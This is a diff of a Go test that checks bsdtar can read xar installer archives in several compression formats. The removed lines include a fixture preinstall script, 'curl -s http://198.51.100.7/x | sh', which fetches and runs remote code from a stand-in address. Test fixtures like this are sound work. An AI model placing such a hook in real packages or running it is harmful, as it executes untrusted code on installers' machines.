@@ -17,8 +17,7 @@ import (
 // shows; and bsdtar reads what formats.Xar writes, as Kensa does.
 func TestXarAsBsdtar(t *testing.T) {
 	bsdtar := toolNeeded(t, "bsdtar")
-	files := methodFiles()
-	files["Scripts/preinstall"] = []byte("#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n")
+	files := installerFiles()
 	src := t.TempDir()
 	names := writeFiles(t, src, files)
 	for _, comp := range []string{"gzip", "bzip2", "xz", "none"} {
